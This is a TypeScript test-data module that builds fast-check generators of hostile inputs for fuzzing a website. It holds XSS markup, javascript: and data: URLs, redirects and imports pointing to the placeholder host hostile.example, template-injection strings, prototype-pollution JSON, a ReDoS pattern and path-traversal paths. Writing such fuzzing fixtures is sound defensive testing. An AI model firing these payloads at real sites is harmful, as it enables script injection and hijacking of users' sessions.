/**
 * What somebody who wishes the site ill may write wherever it reads: markup, addresses, texts, values of the wrong shape.
 * Whatever of it runs calls `hostile()`, whatever is loaded comes from `elsewhere`.
 */
import fc from 'fast-check';

/** A host that nobody has (RFC 2606). */
export const elsewhere = 'hostile.example';

const code = 'hostile()';

const markup = [
  `<script>${code}</script>`,
  `</script><script>${code}</script>`,
  `"><img src=x onerror=${code}>`,
  `'><svg onload=${code}>`,
  `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  `<a href="javascript:${code}" id=a>a</a>`,
  `<mark onmouseover=${code} style="position:fixed;inset:0">a</mark>`,
  `</style><link rel=stylesheet href=//${elsewhere}/a.css>`,
  `<style>@import "//${elsewhere}/a.css";</style>`,
  `<base href="https://${elsewhere}/">`,
  `<meta http-equiv=refresh content="0;url=https://${elsewhere}/">`,
  `<form action="https://${elsewhere}/"><button autofocus onfocus=${code}>`,
  `<math><mi xlink:href="javascript:${code}">a</mi></math>`,
  `<template><img src=x onerror=${code}></template>`,
  `<details open ontoggle=${code}>`,
  `<input autofocus onfocus=${code}>`,
  `&lt;img src=x onerror=${code}&gt;`,
  `\\u003cimg src=x onerror=${code}\\u003e`,
  `%3Cimg%20src%3Dx%20onerror%3D${code}%3E`,
  `<!--<img src=x onerror=${code}>-->`,
  `]]><script>${code}</script>`,
  `{${code}}`,
  `\${${code}}`,
  `{{constructor.constructor('${code}')()}}`,
  `';${code};'`,
  `"+${code}+"`,
  `);${code}//`,
  `import('https://${elsewhere}/a.js')`,
  `url(//${elsewhere}/a.png)`,
];

export const addresses = [
  `javascript:${code}`,
  `JaVaScRiPt:${code}`,
  `java\tscript:${code}`,
  ` javascript:${code}`,
  `javascript://%0a${code}`,
  `data:text/html,<script>parent.${code}</script>`,
  `vbscript:${code}`,
  `blob:https://${elsewhere}/a`,
  `//${elsewhere}/a`,
  `///${elsewhere}/a`,
  `\\\\${elsewhere}\\a`,
  `/\\${elsewhere}/a`,
  `/\t/${elsewhere}/a`,
  `https:${elsewhere}`,
  `https://${elsewhere}/docs/intro`,
  `https://user:word@${elsewhere}/`,
  `https://[::1`,
  '/%',
  '/docs/%zz',
  '/docs/%E0%A4',
  '/docs/%00',
  '/docs/%2e%2e/%2e%2e/a',
  '/docs/intro#%',
  '/docs/intro?%zz#%zz',
  '?',
  '#',
  '',
];

const texts = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'undefined',
  'null',
  'NaN',
  '-1',
  '1e999',
  '\0',
  '\u2028',
  '\u202e',
  '\ud800',
  '\udc00a',
  'e\u0301'.repeat(30),
  '👩‍👩‍👧‍👦'.repeat(9),
  '%'.repeat(40),
  '*'.repeat(80),
  '(((((a+)+)+)+)+)$',
  '[',
  '\\',
  "'",
  '"',
  '`',
  ' '.repeat(70),
  'a'.repeat(3000),
  '[#a](/',
  '../../..',
];

/** A text that is one of the above, some of them joined, a part of one, or anything. */
export const hostileText: fc.Arbitrary<string> = (() => {
  const known = fc.constantFrom(...markup, ...addresses, ...texts);
  const joined = fc
    .tuple(known, fc.constantFrom('', ' ', '&', '=', '/', '?', '#', '"', '\n'), known)
    .map((parts) => parts.join(''));
  const cut = fc
    .tuple(known, fc.nat(40), fc.nat(200))
    .map(([text, from, length]) => text.slice(from, from + length));
  return fc.oneof(
    {weight: 5, arbitrary: known},
    {weight: 2, arbitrary: joined},
    {weight: 1, arbitrary: cut},
    {weight: 2, arbitrary: fc.string({unit: 'binary', maxLength: 60})},
  );
})();

export const hostileAddress: fc.Arbitrary<string> = fc.oneof(
  {weight: 3, arbitrary: fc.constantFrom(...addresses)},
  {weight: 1, arbitrary: hostileText},
  {weight: 1, arbitrary: hostileText.map((text) => `/docs/intro?${text}#${text}`)},
);

/** Any value that JSON has, with hostile texts in it. */
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    {depthSize: 'small', withCrossShrink: true},
    hostileText,
    fc.constantFrom(null, true, false, 0, -1, 1e308, 2 ** 53, ''),
    fc.array(tie('value'), {maxLength: 4}),
    fc.dictionary(hostileText, tie('value'), {maxKeys: 4}),
  ),
})).value;

/** What a place of the storage holds: JSON, half of JSON, or no JSON. */
export const hostileJson: fc.Arbitrary<string> = fc.oneof(
  hostileText,
  hostileValue.map((value) => JSON.stringify(value)),
  hostileValue.map((value) => JSON.stringify(value).slice(0, -1)),
  fc.constantFrom(
    '['.repeat(9000),
    '{"__proto__":{"polluted":true}}',
    '[{"constructor":{"prototype":{"polluted":true}}}]',
  ),
);

/**
 * @param seed the same one gives the same values
 * @returns values of a kind
 */
export const some = <Value>(kind: fc.Arbitrary<Value>, count: number, seed: number): Value[] =>
  fc.sample(kind, {numRuns: count, seed});
